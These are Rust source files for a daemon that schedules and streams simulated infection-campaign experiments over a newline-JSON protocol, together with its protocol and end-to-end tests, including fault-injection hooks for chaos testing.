                    fleet_days: 4,
                    fleet_churn: 0.2,
                    ..RunConfig::default()
                }),
                first_ap: 4,
                aps: 8,
            },
        ];
        for request in submissions {
            let line = request.to_json().to_string();
            assert!(!line.contains('\n'), "wire form must be one line: {line}");
            assert_eq!(Request::parse_line(&line), Ok(request));
        }
    }

    #[test]
    fn responses_round_trip_through_the_wire_form() {
        let day = DayStats {
            day: 2,
            departures: 3,
            arrivals: 3,
            cache_clears: 1,
            object_rotated: true,
            rotation_cured: 4,
            exposed: 120,
            newly_infected: 88,
            failed_aps: 0,
            infected: 90,
            clean: 310,
            events: 123_456,
        };
        let responses = [
            Response::Accepted { run: 1, experiment: ExperimentId::CampaignFleet },
            Response::Day { run: 1, stats: day },
            Response::Status {
                runs: vec![
                    RunStatus {
                        run: 1,
                        experiment: ExperimentId::CampaignFleet,
                        state: RunState::Running,
                        days: 2,
                        outcome: None,
                    },
                    RunStatus {
                        run: 2,
                        experiment: ExperimentId::AttackSurface,
                        state: RunState::Done,
                        days: 0,
                        outcome: Some("ok".to_string()),
                    },
                ],
            },
            Response::Cancelling { run: 3 },
            Response::Done {
                run: 1,
                outcome: RunOutcome::Cancelled { days_completed: 2 },
            },
            Response::Done {
                run: 2,
                outcome: RunOutcome::Ok {
                    artifact: Json::obj([("id", "campaign_fleet".to_json())]),
                },
            },
            Response::Done {
                run: 4,
                outcome: RunOutcome::Failed { message: "event budget exhausted".to_string() },
            },
            Response::ShuttingDown { active_runs: 2 },
            Response::ShardResult {
                run: 5,
                outcome: Json::obj([
                    ("kind", "mp-campaign-checkpoint".to_json()),
                    ("completed_days", 3u64.to_json()),
                ]),
            },
            Response::Error { message: "unknown run 99".to_string(), code: None },
            Response::Error {
                message: "submission queue is full (limit 4)".to_string(),
                code: Some("queue_full".to_string()),
            },
        ];
        for response in responses {
            let line = response.to_json().to_string();
            assert!(!line.contains('\n'), "wire form must be one line: {line}");
            assert_eq!(Response::parse_line(&line), Ok(response));
        }
    }

    #[test]
    fn malformed_wire_lines_are_rejected_with_pointed_messages() {
        assert!(Request::parse_line("not json").unwrap_err().contains("not valid JSON"));
        assert!(Request::parse_line("{}").unwrap_err().contains("\"op\""));
        assert!(Request::parse_line("{\"op\": \"fly\"}").unwrap_err().contains("unknown op"));
        assert!(Request::parse_line("{\"op\": \"cancel\"}").unwrap_err().contains("\"run\""));
        assert!(Request::parse_line("{\"op\": \"submit\"}")
            .unwrap_err()
            .contains("experiment"));
        assert!(Request::parse_line(
            "{\"op\": \"submit\", \"experiment\": \"table99\"}"
        )
        .is_err());
        assert!(Request::parse_line("{\"op\": \"shard_submit\"}")
            .unwrap_err()
            .contains("first_ap"));
        assert!(Request::parse_line("{\"op\": \"shard_submit\", \"first_ap\": 0}")
            .unwrap_err()
            .contains("aps"));
        assert!(Response::parse_line("{\"type\": \"shard_result\", \"run\": 1}")
            .unwrap_err()
            .contains("outcome"));
        assert!(Response::parse_line("{\"type\": \"warp\"}")
            .unwrap_err()
            .contains("unknown response type"));
        assert!(Response::parse_line("{}").unwrap_err().contains("\"type\""));
    }

    #[test]
    fn error_codes_are_optional_on_the_wire() {
        let bare = Response::Error { message: "boom".to_string(), code: None };
        let line = bare.to_json().to_string();
        assert!(!line.contains("\"code\""), "codeless errors omit the field: {line}");
        let coded = Response::Error {
            message: "submission queue is full (limit 1)".to_string(),
            code: Some("queue_full".to_string()),
        };
        assert!(coded.to_json().to_string().contains("\"code\":\"queue_full\""));
        // Legacy daemons that never send a code still decode cleanly.
        assert_eq!(
            Response::parse_line("{\"type\": \"error\", \"message\": \"old\"}"),
            Ok(Response::Error { message: "old".to_string(), code: None })
        );
        // Every catalogued code survives the wire round trip verbatim.
        for code in [
            codes::BAD_REQUEST,
            codes::QUEUE_FULL,
            codes::CANCELLED,
            codes::INTERNAL,
            codes::UNAVAILABLE,
        ] {
            let error = Response::Error {
                message: format!("an error coded {code}"),
                code: Some(code.to_string()),
            };
            let line = error.to_json().to_string();
            assert!(line.contains(&format!("\"code\":\"{code}\"")), "got: {line}");
            assert_eq!(Response::parse_line(&line), Ok(error));
        }
    }

    #[test]
    fn submit_defaults_apply_when_fields_are_absent() {
        let request = Request::parse_line(
            "{\"op\": \"submit\", \"experiment\": \"campaign_fleet\"}",
        )
        .expect("valid submit");
        match request {
            Request::Submit { experiment, config, checkpoint, watch } => {
                assert_eq!(experiment, ExperimentId::CampaignFleet);
                assert_eq!(*config, RunConfig::default());
                assert_eq!(checkpoint, None);
                assert!(!watch);
            }
            other => panic!("expected a submit, got {other:?}"),
        }
    }
}
