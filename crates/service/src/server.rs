//! The campaign service daemon: accept loops, the run scheduler and the
//! per-connection protocol handler.
//!
//! The daemon owns a small fixed worker pool (no async runtime — plain
//! threads, a [`Mutex`]ed run table and [`Condvar`]s). Each accepted
//! connection gets its own thread that parses newline-JSON
//! [`Request`]s and writes [`Response`] lines back. Campaign runs execute on
//! the worker threads through the existing experiment registry, with a
//! [`DaySink`] publishing every completed day into the run's progress record
//! so any number of watchers can stream it.
//!
//! Budget isolation: a submission whose config asks for a
//! `global_event_budget` gets its **own fresh** [`SharedBudget`] (per-run
//! isolation — one greedy campaign cannot starve its neighbours), while
//! submissions without one fall back to the daemon-wide pool configured at
//! [`Daemon::start`] time, if any.
//!
//! Distributed campaigns: a `shard_submit` request executes one contiguous
//! AP range of a multi-day campaign **synchronously on its connection
//! thread** (bypassing the worker queue and the daemon-wide budget pool)
//! and replies with the shard's mergeable partial-checkpoint document — so
//! a coordinator can fan a campaign out across daemons and merge the
//! partials into the byte-identical single-process artifact. The queue
//! itself can be bounded with [`ServeOptions::queue_limit`]; submissions
//! past the bound are rejected with a typed `queue_full` error.

use crate::protocol::{codes, Request, Response, RunOutcome, RunState, RunStatus};
use mp_netsim::sim::SharedBudget;
use parasite::experiments::{
    run_campaign_shard, run_campaign_with_checkpoint_ctx, Artifact, ArtifactData, CancelToken,
    DaySink, DayStats, ExperimentError, ExperimentId, FaultKind, FaultPlan, Registry, RunConfig,
    RunCtx, ShardPlan,
};
use parasite::json::{Json, ToJson};
use std::collections::{BTreeMap, VecDeque};
use std::io::{self, BufRead, BufReader, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::os::unix::fs::FileTypeExt;
use std::os::unix::net::{UnixListener, UnixStream};
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Condvar, Mutex};
use std::thread::JoinHandle;
use std::time::Duration;

/// How long blocking reads wait before re-checking the shutdown flag, and how
/// long accept loops and watch streams sleep between polls.
const POLL_INTERVAL: Duration = Duration::from_millis(50);

/// How the daemon should listen and schedule.
#[derive(Debug, Clone)]
pub struct ServeOptions {
    /// Path of the unix socket to bind (removed again on clean shutdown).
    pub socket: PathBuf,
    /// Optional additional TCP listen address, e.g. `127.0.0.1:7071`.
    pub tcp: Option<String>,
    /// Worker threads executing runs concurrently (minimum 1).
    pub workers: usize,
    /// Daemon-wide event budget pool for submissions that do not carry their
    /// own `global_event_budget`; `0` means unlimited.
    pub global_event_budget: u64,
    /// Most submissions allowed to sit in the queue (not yet running) at
    /// once; further submissions are rejected with a `queue_full` error
    /// until a worker drains the queue. `0` means unbounded.
    pub queue_limit: usize,
}

impl ServeOptions {
    /// Options for a daemon on `socket` with two workers, no TCP listener,
    /// no daemon-wide budget and an unbounded queue.
    pub fn new(socket: impl Into<PathBuf>) -> ServeOptions {
        ServeOptions {
            socket: socket.into(),
            tcp: None,
            workers: 2,
            global_event_budget: 0,
            queue_limit: 0,
        }
    }
}

/// Everything a run accumulates while queued, running and done. Watchers
/// block on `cond` and re-read under the mutex.
#[derive(Debug, Default)]
struct RunProgress {
    state: RunState,
    days: Vec<DayStats>,
    outcome: Option<RunOutcome>,
}

/// One submitted run: immutable submission data plus mutable progress.
#[derive(Debug)]
struct RunEntry {
    id: u64,
    experiment: ExperimentId,
    config: RunConfig,
    checkpoint: Option<PathBuf>,
    cancel: CancelToken,
    progress: Mutex<RunProgress>,
    cond: Condvar,
}

/// The mutable scheduler table.
#[derive(Debug, Default)]
struct State {
    next_run: u64,
    runs: BTreeMap<u64, Arc<RunEntry>>,
    queue: VecDeque<u64>,
}

/// State shared by accept threads, connection threads and workers.
struct Shared {
    state: Mutex<State>,
    queue_ready: Condvar,
    shutdown: AtomicBool,
    pool: Option<SharedBudget>,
    queue_limit: usize,
    socket: PathBuf,
    conn_threads: Mutex<Vec<JoinHandle<()>>>,
}

/// A running daemon. Dropping the handle does **not** stop it; send a
/// `shutdown` request (or call [`Daemon::wait`] after one) to stop cleanly.
pub struct Daemon {
    inner: Arc<Shared>,
    threads: Vec<JoinHandle<()>>,
    tcp_addr: Option<SocketAddr>,
}

/// Binds the unix socket, recovering from the stale file a crashed daemon
/// leaves behind: if the path holds a socket nobody answers (the connect
/// probe is refused), the file is removed and the bind retried. A live
/// daemon, or any non-socket file at the path, keeps its `AddrInUse` error —
/// a regular file is someone's data, not ours to clobber.
fn bind_unix(path: &Path) -> io::Result<UnixListener> {
    match UnixListener::bind(path) {
        Ok(listener) => Ok(listener),
        Err(error) if error.kind() == io::ErrorKind::AddrInUse => {
            let stale_socket = std::fs::symlink_metadata(path)
                .map(|meta| meta.file_type().is_socket())
                .unwrap_or(false);
            if !stale_socket {
                return Err(error);
            }
            match UnixStream::connect(path) {
                Ok(_) => Err(io::Error::new(
                    io::ErrorKind::AddrInUse,
                    format!("another daemon is already listening on {}", path.display()),
                )),
                Err(probe) if probe.kind() == io::ErrorKind::ConnectionRefused => {
                    std::fs::remove_file(path)?;
                    UnixListener::bind(path)
                }
                Err(_) => Err(error),
            }
        }
        Err(error) => Err(error),
    }
}

impl Daemon {
    /// Binds the listeners and spawns the accept and worker threads. A stale
    /// socket file from a crashed previous daemon is detected (nobody
    /// answers a connect probe) and removed; a path where a daemon still
    /// listens, or that holds a non-socket file, refuses to bind.
    pub fn start(options: ServeOptions) -> io::Result<Daemon> {
        let unix = bind_unix(&options.socket)?;
        unix.set_nonblocking(true)?;
        let tcp = match &options.tcp {
            Some(addr) => {
                let listener = TcpListener::bind(addr)?;
                listener.set_nonblocking(true)?;
                Some(listener)
            }
            None => None,
        };
        let tcp_addr = tcp.as_ref().map(|listener| listener.local_addr()).transpose()?;

        let shared = Arc::new(Shared {
            state: Mutex::new(State::default()),
            queue_ready: Condvar::new(),
            shutdown: AtomicBool::new(false),
            pool: (options.global_event_budget > 0)
                .then(|| SharedBudget::new(options.global_event_budget)),
            queue_limit: options.queue_limit,
            socket: options.socket.clone(),
            conn_threads: Mutex::new(Vec::new()),
        });

        // The daemon's listener/worker pool is a sanctioned thread pool:
        // every thread is joined on shutdown and no simulation state is
        // shared across them except through the run queue.
        let mut threads = Vec::new();
        {
            let shared = Arc::clone(&shared);
            // mp-lint: allow(thread-spawn)
            threads.push(std::thread::spawn(move || accept_unix(&shared, unix)));
        }
        if let Some(listener) = tcp {
            let shared = Arc::clone(&shared);
            // mp-lint: allow(thread-spawn)
            threads.push(std::thread::spawn(move || accept_tcp(&shared, listener)));
        }
        for _ in 0..options.workers.max(1) {
            let shared = Arc::clone(&shared);
            // mp-lint: allow(thread-spawn)
            threads.push(std::thread::spawn(move || worker_loop(&shared)));
        }
        Ok(Daemon { inner: shared, threads, tcp_addr })
    }

    /// The bound TCP address, when a TCP listener was requested (useful with
    /// a `:0` ephemeral port).
    pub fn tcp_addr(&self) -> Option<SocketAddr> {
        self.tcp_addr
    }

    /// Blocks until the daemon shuts down (a client sent `shutdown`), then
    /// joins every thread and removes the socket file.
    pub fn wait(self) -> io::Result<()> {
        for handle in self.threads {
            let _ = handle.join();
        }
        let connections = std::mem::take(&mut *self.inner.conn_threads.lock().unwrap());
        for handle in connections {
            let _ = handle.join();
        }
        match std::fs::remove_file(&self.inner.socket) {
            Ok(()) => Ok(()),
            Err(error) if error.kind() == io::ErrorKind::NotFound => Ok(()),
            Err(error) => Err(error),
        }
    }
}

fn accept_unix(shared: &Arc<Shared>, listener: UnixListener) {
    while !shared.shutdown.load(Ordering::SeqCst) {
        match listener.accept() {
            Ok((stream, _)) => spawn_connection(shared, Connection::unix(stream)),
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => {
                std::thread::sleep(POLL_INTERVAL);
            }
            Err(_) => std::thread::sleep(POLL_INTERVAL),
        }
    }
}

fn accept_tcp(shared: &Arc<Shared>, listener: TcpListener) {
    while !shared.shutdown.load(Ordering::SeqCst) {
        match listener.accept() {
            Ok((stream, _)) => spawn_connection(shared, Connection::tcp(stream)),
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => {
                std::thread::sleep(POLL_INTERVAL);
            }
            Err(_) => std::thread::sleep(POLL_INTERVAL),
        }
    }
}

/// A socket pair abstracting unix and TCP streams behind `Read`/`Write`
/// trait objects, configured for blocking reads with a short timeout so the
/// handler can notice daemon shutdown between requests.
struct Connection {
    reader: BufReader<Box<dyn io::Read + Send>>,
    writer: Box<dyn Write + Send>,
}

impl Connection {
    fn unix(stream: UnixStream) -> io::Result<Connection> {
        stream.set_nonblocking(false)?;
        stream.set_read_timeout(Some(POLL_INTERVAL))?;
        let writer = stream.try_clone()?;
        Ok(Connection {
            reader: BufReader::new(Box::new(stream)),
            writer: Box::new(writer),
        })
    }

    fn tcp(stream: TcpStream) -> io::Result<Connection> {
        stream.set_nonblocking(false)?;
        stream.set_read_timeout(Some(POLL_INTERVAL))?;
        let writer = stream.try_clone()?;
        Ok(Connection {
            reader: BufReader::new(Box::new(stream)),
            writer: Box::new(writer),
        })
    }

    fn write_line(&mut self, response: &Response) -> io::Result<()> {
        writeln!(self.writer, "{}", response.to_json())?;
        self.writer.flush()
    }

    /// Writes a pre-rendered (possibly deliberately malformed) line; the
    /// fault-injection garble path uses this to put a truncated response on
    /// the wire.
    fn write_raw_line(&mut self, line: &str) -> io::Result<()> {
        writeln!(self.writer, "{line}")?;
        self.writer.flush()
    }
}

fn spawn_connection(shared: &Arc<Shared>, connection: io::Result<Connection>) {
    let Ok(connection) = connection else { return };
    let shared_for_thread = Arc::clone(shared);
    // Per-connection thread of the sanctioned daemon pool, tracked in
    // conn_threads and joined on shutdown. mp-lint: allow(thread-spawn)
    let handle = std::thread::spawn(move || handle_connection(&shared_for_thread, connection));
    shared.conn_threads.lock().unwrap().push(handle);
}

fn handle_connection(shared: &Arc<Shared>, mut connection: Connection) {
    let mut line = String::new();
    loop {
        match connection.reader.read_line(&mut line) {
            // `Ok` without a trailing newline means the client hung up
            // mid-line; serve the fragment as its final request.
            Ok(n) => {
                let at_eof = n == 0 || !line.ends_with('\n');
                if !line.trim().is_empty() && !serve_line(shared, &mut connection, &line) {
                    break;
                }
                line.clear();
                if at_eof {
                    break;
                }
            }
            Err(error)
                if error.kind() == io::ErrorKind::WouldBlock
                    || error.kind() == io::ErrorKind::TimedOut =>
            {
                // Idle. Any bytes of a partial request that arrived before
                // the timeout were appended to `line` and must survive this
                // iteration — the rest of the line is still in flight.
                if shared.shutdown.load(Ordering::SeqCst) {
                    break;
                }
            }
            Err(_) => break,
        }
    }
}

/// Parses and dispatches one request line; returns whether the connection
/// should keep reading.
fn serve_line(shared: &Arc<Shared>, connection: &mut Connection, line: &str) -> bool {
    match Request::parse_line(line) {
        Ok(request) => {
            let is_shutdown = matches!(request, Request::Shutdown);
            dispatch(shared, connection, request).is_ok() && !is_shutdown
        }
        Err(message) => connection
            .write_line(&Response::Error { message, code: coded(codes::BAD_REQUEST) })
            .is_ok(),
    }
}

/// Wraps a protocol error-code constant for a [`Response::Error`].
fn coded(code: &str) -> Option<String> {
    Some(code.to_string())
}

fn dispatch(
    shared: &Arc<Shared>,
    connection: &mut Connection,
    request: Request,
) -> io::Result<()> {
    match request {
        Request::Submit { experiment, config, checkpoint, watch } => {
            match submit(shared, experiment, *config, checkpoint) {
                Ok(run) => {
                    connection.write_line(&Response::Accepted { run, experiment })?;
                    if watch {
                        stream_run(shared, connection, run)?;
                    }
                    Ok(())
                }
                Err((message, code)) => {
                    connection.write_line(&Response::Error { message, code: coded(code) })
                }
            }
        }
        Request::Status { run } => {
            let runs = status(shared, run);
            match (run, runs.is_empty()) {
                (Some(run), true) => connection.write_line(&Response::Error {
                    message: format!("unknown run {run}"),
                    code: coded(codes::BAD_REQUEST),
                }),
                _ => connection.write_line(&Response::Status { runs }),
            }
        }
        Request::Watch { run } => {
            if entry_for(shared, run).is_some() {
                stream_run(shared, connection, run)
            } else {
                connection.write_line(&Response::Error {
                    message: format!("unknown run {run}"),
                    code: coded(codes::BAD_REQUEST),
                })
            }
        }
        Request::Cancel { run } => match entry_for(shared, run) {
            Some(entry) => {
                entry.cancel.cancel();
                // Wake the run's watchers and the workers: a queued run must
                // resolve to `cancelled` without ever executing.
                entry.cond.notify_all();
                shared.queue_ready.notify_all();
                connection.write_line(&Response::Cancelling { run })
            }
            None => connection.write_line(&Response::Error {
                message: format!("unknown run {run}"),
                code: coded(codes::BAD_REQUEST),
            }),
        },
        Request::Shutdown => {
            let active_runs = begin_shutdown(shared);
            connection.write_line(&Response::ShuttingDown { active_runs })
        }
        Request::ShardSubmit { config, first_ap, aps } => {
            // The deterministic fault plan (MP_FAULT_PLAN, see PROTOCOL.md)
            // also covers the daemon's shard path, so a coordinator fanning
            // out over daemons can be chaos-tested: crash before the result,
            // hang until the coordinator's timeout kills us, or garble the
            // result line.
            let fault = FaultPlan::global().and_then(FaultPlan::claim_assignment);
            match fault {
                Some(FaultKind::Crash) => std::process::exit(3),
                Some(FaultKind::Hang) => loop {
                    std::thread::sleep(Duration::from_secs(3600));
                },
                _ => {}
            }
            match shard_submit(shared, *config, first_ap, aps) {
                Ok((run, outcome)) => {
                    let response = Response::ShardResult { run, outcome };
                    if matches!(fault, Some(FaultKind::Garble) | Some(FaultKind::Torn)) {
                        let line = response.to_json().to_string();
                        let plan = FaultPlan::global().expect("a fault implies a plan");
                        let mut cut = plan.garble_point(line.len());
                        while !line.is_char_boundary(cut) {
                            cut -= 1;
                        }
                        connection.write_raw_line(&line[..cut])
                    } else {
                        connection.write_line(&response)
                    }
                }
                Err((message, code)) => {
                    connection.write_line(&Response::Error { message, code: coded(code) })
                }
            }
        }
    }
}

/// A rejected submission: the error message plus its machine-readable
/// [`codes`] constant — every daemon-originated error is typed.
type SubmitError = (String, &'static str);

/// Validates and enqueues a submission, returning the new run id.
fn submit(
    shared: &Arc<Shared>,
    experiment: ExperimentId,
    config: RunConfig,
    checkpoint: Option<PathBuf>,
) -> Result<u64, SubmitError> {
    if shared.shutdown.load(Ordering::SeqCst) {
        return Err((
            "daemon is shutting down; submission rejected".to_string(),
            codes::UNAVAILABLE,
        ));
    }
    if checkpoint.is_some() {
        // Mirror the CLI's batch-mode contract: checkpoints belong to
        // multi-day campaign_fleet runs only.
        if experiment != ExperimentId::CampaignFleet {
            return Err((
                format!(
                    "checkpoint submissions must run campaign_fleet, not {}",
                    experiment.as_str()
                ),
                codes::BAD_REQUEST,
            ));
        }
        if config.fleet_days < 2 {
            return Err((
                "checkpoint submissions need fleet_days >= 2".to_string(),
                codes::BAD_REQUEST,
            ));
        }
    }
    let mut state = shared.state.lock().unwrap();
    if shared.queue_limit > 0 && state.queue.len() >= shared.queue_limit {
        return Err((
            format!("submission queue is full (limit {})", shared.queue_limit),
            codes::QUEUE_FULL,
        ));
    }
    state.next_run += 1;
    let run = state.next_run;
    let entry = Arc::new(RunEntry {
        id: run,
        experiment,
        config,
        checkpoint,
        cancel: CancelToken::new(),
        progress: Mutex::new(RunProgress::default()),
        cond: Condvar::new(),
    });
    state.runs.insert(run, entry);
    state.queue.push_back(run);
    drop(state);
    shared.queue_ready.notify_one();
    Ok(run)
}

/// Validates and executes one campaign shard **synchronously** on the
/// calling connection thread, returning the run id and the shard's
/// partial-checkpoint document.
///
/// Shards deliberately bypass both the worker queue (a coordinator fans
/// shards out across daemons and wants each connection to block until its
/// shard is done) and the daemon-wide budget pool (a shard sees only its
/// own APs, so a shared pool would make the merged result depend on
/// scheduling — the merge's determinism contract forbids that). The run
/// still gets a table entry, so `status` reports it and `cancel` stops it
/// at its next day boundary.
fn shard_submit(
    shared: &Arc<Shared>,
    config: RunConfig,
    first_ap: usize,
    aps: usize,
) -> Result<(u64, Json), SubmitError> {
    if shared.shutdown.load(Ordering::SeqCst) {
        return Err((
            "daemon is shutting down; submission rejected".to_string(),
            codes::UNAVAILABLE,
        ));
    }
    if config.fleet_days < 2 {
        return Err(("shard submissions need fleet_days >= 2".to_string(), codes::BAD_REQUEST));
    }
    if config.global_event_budget > 0 {
        return Err((
            "shard submissions cannot carry a global_event_budget; a budget pool shared \
             across shards would make the merged result depend on worker scheduling"
                .to_string(),
            codes::BAD_REQUEST,
        ));
    }
    let mut state = shared.state.lock().unwrap();
    state.next_run += 1;
    let run = state.next_run;
    let entry = Arc::new(RunEntry {
        id: run,
        experiment: ExperimentId::CampaignFleet,
        config,
        checkpoint: None,
        cancel: CancelToken::new(),
        progress: Mutex::new(RunProgress::default()),
        cond: Condvar::new(),
    });
    state.runs.insert(run, Arc::clone(&entry));
    drop(state);

    {
        let mut progress = entry.progress.lock().unwrap();
        progress.state = RunState::Running;
    }
    entry.cond.notify_all();

    let sink_entry = Arc::clone(&entry);
    let ctx = RunCtx {
        shared_budget: None,
        cancel: entry.cancel.clone(),
        day_sink: Some(DaySink::new(move |stats: &DayStats| {
            let mut progress = sink_entry.progress.lock().unwrap();
            progress.days.push(*stats);
            drop(progress);
            sink_entry.cond.notify_all();
        })),
    };
    let plan = ShardPlan { first_ap, aps };
    let result =
        catch_unwind(AssertUnwindSafe(|| run_campaign_shard(&entry.config, plan, &ctx)));
    match result {
        Ok(Ok(outcome)) => {
            let document = outcome.to_checkpoint_json(&entry.config);
            finish(&entry, RunOutcome::Ok { artifact: document.clone() });
            Ok((run, document))
        }
        Ok(Err(ExperimentError::Cancelled { completed_days })) => {
            finish(&entry, RunOutcome::Cancelled { days_completed: completed_days });
            Err((
                format!("shard run {run} was cancelled after {completed_days} days"),
                codes::CANCELLED,
            ))
        }
        Ok(Err(error)) => {
            // A configuration the campaign rejects is the client's fault;
            // everything else failed inside the daemon.
            let code = match &error {
                ExperimentError::Config(_) => codes::BAD_REQUEST,
                _ => codes::INTERNAL,
            };
            let message = error.to_string();
            finish(&entry, RunOutcome::Failed { message: message.clone() });
            Err((message, code))
        }
        Err(panic) => {
            let message = panic
                .downcast_ref::<&str>()
                .map(|s| s.to_string())
                .or_else(|| panic.downcast_ref::<String>().cloned())
                .unwrap_or_else(|| "run panicked".to_string());
            let message = format!("shard run panicked: {message}");
            finish(&entry, RunOutcome::Failed { message: message.clone() });
            Err((message, codes::INTERNAL))
        }
    }
}

fn entry_for(shared: &Arc<Shared>, run: u64) -> Option<Arc<RunEntry>> {
    shared.state.lock().unwrap().runs.get(&run).cloned()
}

fn status(shared: &Arc<Shared>, filter: Option<u64>) -> Vec<RunStatus> {
    let state = shared.state.lock().unwrap();
    state
        .runs
        .values()
        .filter(|entry| filter.is_none_or(|run| entry.id == run))
        .map(|entry| {
            let progress = entry.progress.lock().unwrap();
            RunStatus {
                run: entry.id,
                experiment: entry.experiment,
                state: progress.state,
                days: progress.days.len() as u32,
                outcome: progress.outcome.as_ref().map(|o| o.kind().to_string()),
            }
        })
        .collect()
}

/// Replays a run's completed days to `connection`, follows it live, and ends
/// with the `done` message once the run finishes.
fn stream_run(shared: &Arc<Shared>, connection: &mut Connection, run: u64) -> io::Result<()> {
    let Some(entry) = entry_for(shared, run) else {
        return connection.write_line(&Response::Error {
            message: format!("unknown run {run}"),
            code: coded(codes::BAD_REQUEST),
        });
    };
    let mut cursor = 0usize;
    loop {
        // Collect whatever is new under the lock, write it outside the lock.
        let (fresh, outcome) = {
            let mut progress = entry.progress.lock().unwrap();
            while progress.days.len() == cursor && progress.outcome.is_none() {
                let (next, _) = entry.cond.wait_timeout(progress, POLL_INTERVAL).unwrap();
                progress = next;
            }
            let fresh: Vec<DayStats> = progress.days[cursor..].to_vec();
            (fresh, progress.outcome.clone())
        };
        for stats in &fresh {
            connection.write_line(&Response::Day { run, stats: *stats })?;
        }
        cursor += fresh.len();
        if let Some(outcome) = outcome {
            return connection.write_line(&Response::Done { run, outcome });
        }
    }
}

/// Flags shutdown, cancels every unfinished run and wakes all sleepers.
/// Returns how many runs were still queued or running.
fn begin_shutdown(shared: &Arc<Shared>) -> u64 {
    shared.shutdown.store(true, Ordering::SeqCst);
    let state = shared.state.lock().unwrap();
    let mut active = 0;
    for entry in state.runs.values() {
        let progress = entry.progress.lock().unwrap();
        if progress.state != RunState::Done {
            active += 1;
            entry.cancel.cancel();
        }
    }
    drop(state);
    shared.queue_ready.notify_all();
    active
}

/// Worker thread: pop runs off the queue and execute them. During shutdown
/// the queue is drained first so every queued run resolves (to `cancelled`)
/// before the thread exits — watchers never hang on an abandoned run.
fn worker_loop(shared: &Arc<Shared>) {
    loop {
        let entry = {
            let mut state = shared.state.lock().unwrap();
            loop {
                if let Some(run) = state.queue.pop_front() {
                    break state.runs.get(&run).cloned();
                }
                if shared.shutdown.load(Ordering::SeqCst) {
                    return;
                }
                let (next, _) = shared.queue_ready.wait_timeout(state, POLL_INTERVAL).unwrap();
                state = next;
            }
        };
        if let Some(entry) = entry {
            execute(shared, &entry);
        }
    }
}

/// Runs one submission to completion and records its outcome.
fn execute(shared: &Arc<Shared>, entry: &Arc<RunEntry>) {
    // A run cancelled while still queued never executes: resolve it
    // deterministically with zero completed days.
    if entry.cancel.is_cancelled() {
        finish(entry, RunOutcome::Cancelled { days_completed: 0 });
        return;
    }
    {
        let mut progress = entry.progress.lock().unwrap();
        progress.state = RunState::Running;
    }
    entry.cond.notify_all();

    // Per-run budget isolation: a config-level budget gets its own fresh
    // pool; only budget-less submissions share the daemon-wide pool.
    let shared_budget = if entry.config.global_event_budget > 0 {
        Some(SharedBudget::new(entry.config.global_event_budget))
    } else {
        shared.pool.clone()
    };
    let sink_entry = Arc::clone(entry);
    let ctx = RunCtx {
        shared_budget,
        cancel: entry.cancel.clone(),
        day_sink: Some(DaySink::new(move |stats: &DayStats| {
            let mut progress = sink_entry.progress.lock().unwrap();
            progress.days.push(*stats);
            drop(progress);
            sink_entry.cond.notify_all();
        })),
    };

    let result = catch_unwind(AssertUnwindSafe(|| match &entry.checkpoint {
        Some(path) => run_campaign_with_checkpoint_ctx(&entry.config, path, &ctx).map(|result| {
            Artifact {
                id: ExperimentId::CampaignFleet,
                config: entry.config,
                data: ArtifactData::CampaignFleet(result),
            }
        }),
        None => Registry::get(entry.experiment).try_run_ctx(&entry.config, &ctx),
    }));

    let outcome = match result {
        Ok(Ok(artifact)) => RunOutcome::Ok { artifact: artifact.to_json() },
        Ok(Err(ExperimentError::Cancelled { completed_days })) => {
            RunOutcome::Cancelled { days_completed: completed_days }
        }
        Ok(Err(error)) => RunOutcome::Failed { message: error.to_string() },
        Err(panic) => {
            let message = panic
                .downcast_ref::<&str>()
                .map(|s| s.to_string())
                .or_else(|| panic.downcast_ref::<String>().cloned())
                .unwrap_or_else(|| "run panicked".to_string());
            RunOutcome::Failed { message: format!("run panicked: {message}") }
        }
    };
    finish(entry, outcome);
}

fn finish(entry: &Arc<RunEntry>, outcome: RunOutcome) {
    let mut progress = entry.progress.lock().unwrap();
    progress.state = RunState::Done;
    progress.outcome = Some(outcome);
    drop(progress);
    entry.cond.notify_all();
}
