//! End-to-end tests for the campaign service daemon: a real daemon on a real
//! unix socket, driven by the [`Client`] over the newline-JSON protocol.

use mp_service::{Client, Daemon, Endpoint, Request, Response, RunOutcome, RunState, ServeOptions};
use parasite::experiments::{
    run_campaign_with_checkpoint, Artifact, ArtifactData, DayStats, ExperimentId, Registry,
    RunConfig, ShardOutcome, ShardPlan,
};
use parasite::json::ToJson;
use std::path::{Path, PathBuf};

fn temp_dir(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("mp-service-e2e-{}-{tag}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("temp dir");
    dir
}

fn connect(socket: &Path) -> Client {
    Client::connect(&Endpoint::Unix(socket.to_path_buf())).expect("connect to daemon")
}

fn campaign_config(seed: u64) -> RunConfig {
    RunConfig {
        seed,
        fleet_clients: 2_000,
        fleet_aps: 4,
        fleet_days: 12,
        fleet_churn: 0.2,
        fleet_jobs: 1,
        ..RunConfig::default()
    }
}

fn submit(client: &mut Client, config: RunConfig, checkpoint: Option<PathBuf>) -> u64 {
    let request = Request::Submit {
        experiment: ExperimentId::CampaignFleet,
        config: Box::new(config),
        checkpoint,
        watch: true,
    };
    match client.request(&request).expect("submission response") {
        Response::Accepted { run, experiment } => {
            assert_eq!(experiment, ExperimentId::CampaignFleet);
            run
        }
        other => panic!("expected accepted, got {other:?}"),
    }
}

/// Reads a watch stream to its end: the day messages, then the outcome.
fn drain_stream(client: &mut Client, run: u64) -> (Vec<DayStats>, RunOutcome) {
    let mut days = Vec::new();
    loop {
        match client.read_response().expect("stream response") {
            Response::Day { run: id, stats } => {
                assert_eq!(id, run);
                days.push(stats);
            }
            Response::Done { run: id, outcome } => {
                assert_eq!(id, run);
                return (days, outcome);
            }
            other => panic!("unexpected message in run {run}'s stream: {other:?}"),
        }
    }
}

fn shutdown_and_wait(daemon: Daemon, socket: &Path) {
    let mut client = connect(socket);
    match client.request(&Request::Shutdown).expect("shutdown response") {
        Response::ShuttingDown { .. } => {}
        other => panic!("expected shutting_down, got {other:?}"),
    }
    daemon.wait().expect("daemon joins cleanly");
    assert!(!socket.exists(), "socket file must be removed on clean shutdown");
}

#[test]
fn concurrent_submissions_with_isolated_budgets_match_batch_runs() {
